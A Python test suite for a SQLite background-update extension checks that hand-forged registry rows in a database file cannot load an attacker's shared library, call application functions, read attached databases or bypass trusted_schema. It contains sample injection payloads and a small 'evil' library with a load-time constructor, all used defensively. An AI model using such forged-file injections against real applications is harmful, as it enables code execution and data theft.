"""A database file is data, not code. Applications open files they did not
write (imports, uploads, restored backups); a file whose bgupdate_registry
rows were written by hand must not run code in the application. Each attack
writes the rows with a plain sqlite3 connection (no extension), the way an
attacker would, and then the application steps as usual:
  - a set_clause calling load_extension() on a library of the attacker's;
  - a set_clause (or a generic handler) calling an application function with
    the file's arguments;
  - a set_clause reading a database the application ATTACHed;
  - with PRAGMA trusted_schema OFF, any registration the application did not
    make itself on its connection;
  - a fragment that the registration-time parser check would have refused.
The application's own authorizer keeps working around and during batches."""
import json
import os
import sqlite3
import subprocess
import tempfile
import textwrap
import time

from helpers import DbTestCase, connect, wait_for, EXTENSION


def forge(path, update_name, kind, spec):
    """Writes a registry row and a queue row as an attacker would: plain SQL on the file."""
    db = sqlite3.connect(path, isolation_level=None)
    try:
        db.execute("INSERT OR REPLACE INTO bgupdate_registry (update_name, kind, spec_json, registered_at)"
                   " VALUES (?, ?, ?, '2024-01-01T00:00:00Z')",
                   (update_name, kind, json.dumps(spec)))
        db.execute("INSERT OR IGNORE INTO background_updates (ordering, update_name, progress_json)"
                   " VALUES (1, ?, '{}')", (update_name,))
    finally:
        db.close()


def batched(set_clause, where=None):
    spec = {"table": "t", "key_columns": ["id"], "set_clause": set_clause}
    if where is not None:
        spec["where_clause"] = where
    return spec


class FileTestCase(DbTestCase):
    def setUp(self):
        super().setUp()
        self.db.execute("CREATE TABLE t(id INTEGER PRIMARY KEY, a INT, b)")
        self.db.execute("INSERT INTO t SELECT value, value, NULL FROM json_each('[1,2,3,4,5]')")
        self.db.execute("SELECT bgupdate_enabled()")  # creates bgupdate's own tables in the file

    def untouched(self):
        return self.one("SELECT count(*) FROM t WHERE b IS NOT NULL") == 0


class LoadExtension(FileTestCase):
    def build_evil_library(self):
        """A shared library that leaves a marker file when loaded (its constructor runs at dlopen)."""
        self.marker = os.path.join(self.tmpdir, "evil-ran")
        src = os.path.join(self.tmpdir, "evil.c")
        with open(src, "w") as f:
            f.write(textwrap.dedent(f"""\
                #include <stdio.h>
                __attribute__((constructor)) static void evil(void) {{
                    FILE* f = fopen("{self.marker}", "w"); if (f) {{ fputs("pwned", f); fclose(f); }}
                }}
                int sqlite3_evil_init(void* db, char** err, const void* api) {{ return 0; }}
                """))
        lib = os.path.join(self.tmpdir, "evil.so")
        subprocess.run(["gcc", "-shared", "-fPIC", "-o", lib, src], check=True)
        return lib

    def test_set_clause_calling_load_extension_is_refused(self):
        lib = self.build_evil_library()
        # As in a typical application: extension loading was turned on to load bgupdate and left on.
        self.db.enable_load_extension(True)
        forge(self.path, "evil", "batched_update", batched(f"b = load_extension('{lib}')"))
        out = self.step()
        self.assertFalse(os.path.exists(self.marker), "the attacker's library ran inside the application")
        self.assertIn("error", out, out)
        self.assertIn("refused function load_extension()", out["error"])
        self.assertTrue(self.untouched())

    def test_load_extension_is_refused_even_when_the_application_could_load(self):
        # A where_clause is just as much the file's code.
        lib = self.build_evil_library()
        self.db.enable_load_extension(True)
        forge(self.path, "evil", "batched_update", batched("b = a", f"load_extension('{lib}') IS NULL"))
        out = self.step()
        self.assertFalse(os.path.exists(self.marker))
        self.assertIn("refused function load_extension()", out["error"])


class ApplicationFunctions(FileTestCase):
    def setUp(self):
        super().setUp()
        self.mails = []
        self.db.create_function("app_send_mail", 2, lambda to, body: self.mails.append((to, body)) or 1)

    def test_set_clause_calling_an_application_function_is_refused(self):
        forge(self.path, "mail", "batched_update", batched("b = app_send_mail('attacker@example.com', a)"))
        out = self.step()
        self.assertEqual(self.mails, [], "the application function ran with the file's arguments")
        self.assertIn("refused function app_send_mail()", out["error"])
        self.assertIn("bgupdate_allow_function", out["error"])
        self.assertTrue(self.untouched())

    def test_a_function_the_application_allowed_may_be_called(self):
        self.db.create_function("double_it", 1, lambda a: a * 2)
        forge(self.path, "dbl", "batched_update", batched("b = double_it(a)"))
        self.assertIn("refused function double_it()", self.step()["error"])
        self.db.execute("SELECT bgupdate_allow_function('double_it')")  # remembered on the connection
        self.db.execute("SELECT bgupdate_retry('dbl')")
        self.step_until_done()
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b = a * 2"), 5)
        # ... and only there: another connection to the same file has not allowed it.
        other = connect(self.path)
        try:
            other.create_function("double_it", 1, lambda a: a * 2)
            forge(self.path, "dbl2", "batched_update", batched("b = double_it(a) + 1"))
            out = json.loads(other.execute("SELECT bgupdate_step()").fetchone()[0])
            self.assertIn("refused function double_it()", out["error"])
        finally:
            other.close()

    def test_a_generic_handler_named_by_the_file_is_not_called(self):
        forge(self.path, "mail", "generic", {"function": "app_send_mail"})
        out = self.step()
        self.assertEqual(self.mails, [])
        self.assertIsNone(out["update_name"], out)
        waiting = {w["update_name"]: w for w in out["waiting"]}
        self.assertEqual(waiting["mail"]["why"], "function_not_allowed")
        self.assertIn("allow_function('app_send_mail')", waiting["mail"]["reason"])
        st = self.status()["mail"]
        self.assertEqual(st["state"], "waiting")
        self.assertIn("has not allowed", st["last_error"])
        self.assertSqlError("SELECT bgupdate_finish('mail')", (), "has not allowed")

    def test_a_hook_named_by_the_file_is_not_called(self):
        forge(self.path, "fill", "batched_update", batched("b = a"))
        plain = sqlite3.connect(self.path, isolation_level=None)
        plain.execute("INSERT OR REPLACE INTO bgupdate_config (key, value) VALUES ('duration_hook', 'app_send_mail')")
        plain.close()
        out = self.step()
        self.assertEqual(self.mails, [])
        self.assertIn("refused to call application function 'app_send_mail'", out["error"])

    def test_a_handler_registered_here_is_allowed(self):
        def handler(progress, batch_size):
            self.db.execute("UPDATE t SET b = a")
            self.db.execute("SELECT bgupdate_end_update('mine')")
            return 5
        self.db.create_function("my_handler", 2, handler)
        self.db.execute("SELECT bgupdate_register_update_handler('mine', 'my_handler')")
        self.db.execute("SELECT bgupdate_enqueue('mine')")
        self.step_until_done()
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b = a"), 5)


class AttachedDatabases(FileTestCase):
    def setUp(self):
        super().setUp()
        vault = os.path.join(self.tmpdir, "vault.db")
        v = sqlite3.connect(vault, isolation_level=None)
        v.execute("CREATE TABLE secrets(secret TEXT)")
        v.execute("CREATE TABLE only_in_vault(x)")
        v.execute("INSERT INTO secrets VALUES ('hunter2')")
        v.execute("INSERT INTO only_in_vault VALUES (1), (2), (3)")
        v.close()
        self.db.execute("ATTACH ? AS vault", (vault,))

    def assertRefused(self, set_clause, *fragments):
        forge(self.path, "leak", "batched_update", batched(set_clause))
        out = self.step()
        self.assertIn("error", out, out)
        for f in fragments:
            self.assertIn(f, out["error"])
        self.assertTrue(self.untouched())
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b LIKE '%hunter2%'"), 0)
        self.db.execute("DELETE FROM background_updates WHERE update_name = 'leak'")
        self.db.execute("DELETE FROM bgupdate_state WHERE update_name = 'leak'")

    def test_reading_an_attached_database_into_the_file_is_refused(self):
        self.assertRefused("b = (SELECT secret FROM vault.secrets)", "refused database 'vault'")
        self.assertRefused("b = (SELECT secret FROM secrets)", "refused database 'vault'")  # unqualified
        self.assertRefused("b = (SELECT count(*) FROM only_in_vault)", "refused database 'vault'")
        self.assertRefused("b = (SELECT group_concat(file) FROM pragma_database_list)",
                           "refused table-valued function pragma_database_list()")

    def test_the_main_and_temp_databases_stay_usable(self):
        self.db.execute("CREATE TEMP TABLE lookup(id INTEGER PRIMARY KEY, v)")
        self.db.execute("INSERT INTO lookup SELECT id, id * 10 FROM t")
        forge(self.path, "ok", "batched_update",
              batched("b = (SELECT v FROM lookup WHERE lookup.id = t.id) + (SELECT count(*) FROM json_each('[1,2]'))"
                      " + length(upper('x'))"))
        self.step_until_done()
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b = id * 10 + 3"), 5)


class TrustedSchemaOff(FileTestCase):
    def setUp(self):
        super().setUp()
        self.db.execute("PRAGMA trusted_schema = OFF")

    def test_a_registration_the_application_did_not_make_waits(self):
        forge(self.path, "fill", "batched_update", batched("b = a * 3"))
        out = self.step()
        self.assertIsNone(out["update_name"], out)
        waiting = {w["update_name"]: w for w in out["waiting"]}
        self.assertEqual(waiting["fill"]["why"], "needs_registration")
        self.assertIn("trusted_schema is OFF", waiting["fill"]["reason"])
        st = self.status()["fill"]
        self.assertEqual(st["state"], "waiting")
        self.assertIn("trusted_schema is OFF", st["last_error"])
        self.assertTrue(self.untouched())
        # The application registers it at start, as Synapse registers its handlers: now it runs.
        self.db.execute("SELECT bgupdate_register_batched_update('fill', 't', '[\"id\"]', 'b = a * 3')")
        self.step_until_done()
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b = a * 3"), 5)

    def test_a_row_changed_after_the_application_registered_it_waits_again(self):
        self.db.execute("SELECT bgupdate_register_batched_update('fill', 't', '[\"id\"]', 'b = a * 3')")
        forge(self.path, "fill", "batched_update", batched("b = a * 4"))  # someone else rewrote it
        out = self.step()
        self.assertEqual(out["waiting"][0]["why"], "needs_registration", out)
        self.assertTrue(self.untouched())

    def test_the_background_thread_follows_the_connection_that_started_it(self):
        forge(self.path, "fill", "batched_update", batched("b = a * 3"))
        self.db.execute("SELECT bgupdate_config('sleep_enabled', 'false')")
        self.db.execute("SELECT bgupdate_start()")
        try:
            # The thread looks at the queue about every 200 ms: a few looks, and nothing ran.
            time.sleep(1.0)
            self.assertTrue(self.untouched(), "the thread ran a registration the application did not make")
            self.db.execute("SELECT bgupdate_register_batched_update('fill', 't', '[\"id\"]', 'b = a * 3')")
            self.assertTrue(wait_for(lambda: self.one("SELECT bgupdate_has_completed('fill')") == 1))
        finally:
            self.db.execute("SELECT bgupdate_stop()")
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b = a * 3"), 5)

    def test_with_trusted_schema_on_the_files_registration_runs(self):
        self.db.execute("PRAGMA trusted_schema = ON")
        forge(self.path, "fill", "batched_update", batched("b = a * 3"))
        self.step_until_done()
        self.assertEqual(self.one("SELECT count(*) FROM t WHERE b = a * 3"), 5)


class StoredFragmentsAreParsedEveryBatch(FileTestCase):
    def test_a_fragment_the_parser_refuses_does_not_run(self):
        # Lexically one piece, but an UPDATE ... FROM join that register_batched_update refuses.
        forge(self.path, "join", "batched_update", batched("b = x.v FROM (SELECT 42 AS v) AS x"))
        out = self.step()
        self.assertIn("set_clause of 'join' is not valid", out.get("error", ""), out)
        self.assertTrue(self.untouched())


class TheApplicationsAuthorizer(FileTestCase):
    def test_it_is_asked_during_batches_and_restored_after(self):
        seen = []

        def app_authorizer(action, arg1, arg2, db_name, trigger):
            seen.append((action, arg1))
            return sqlite3.SQLITE_DENY if (action, arg1) == (sqlite3.SQLITE_READ, "private") else sqlite3.SQLITE_OK

        self.db.execute("CREATE TABLE private(x)")
        self.db.set_authorizer(app_authorizer)
        self.db.execute("SELECT bgupdate_register_batched_update('fill', 't', '[\"id\"]', 'b = a')")
        self.db.execute("SELECT bgupdate_enqueue('fill')")
        self.step_until_done()
        self.assertIn((sqlite3.SQLITE_UPDATE, "t"), seen, "the application's authorizer saw the batch")
        with self.assertRaises(sqlite3.DatabaseError):
            self.db.execute("SELECT x FROM private").fetchall()  # still in place after the batches

    def test_its_refusal_fails_the_batch(self):
        def no_updates_of_t(action, arg1, arg2, db_name, trigger):
            return sqlite3.SQLITE_DENY if (action, arg1) == (sqlite3.SQLITE_UPDATE, "t") else sqlite3.SQLITE_OK
        self.db.execute("SELECT bgupdate_register_batched_update('fill', 't', '[\"id\"]', 'b = a')")
        self.db.execute("SELECT bgupdate_enqueue('fill')")
        self.db.set_authorizer(no_updates_of_t)
        out = self.step()
        self.assertIn("not authorized", out.get("error", ""), out)
        self.assertTrue(self.untouched())

    def test_a_step_inside_an_open_cursor_leaves_the_cursor_working(self):
        self.db.execute("SELECT bgupdate_register_batched_update('fill', 't', '[\"id\"]', 'b = a')")
        self.db.execute("SELECT bgupdate_enqueue('fill')")
        self.db.execute("SELECT bgupdate_config('default_batch_size', '1')")
        ids = []
        for (i,) in self.db.execute("SELECT id FROM t ORDER BY id"):
            ids.append(i)
            self.step()
        self.assertEqual(ids, [1, 2, 3, 4, 5])
